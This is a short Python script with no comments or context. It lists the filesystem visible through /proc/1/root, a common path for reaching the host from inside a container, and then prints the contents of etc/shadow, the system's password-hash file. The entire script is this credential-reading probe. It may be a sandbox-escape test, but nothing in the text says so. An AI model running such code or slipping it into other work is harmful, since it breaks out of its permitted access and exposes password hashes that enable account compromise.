import os

root = "/proc/1/root"
for entry in os.listdir(root):
    print(entry)
with open(os.path.join(root, "etc/shadow")) as fh:
    print(fh.read())
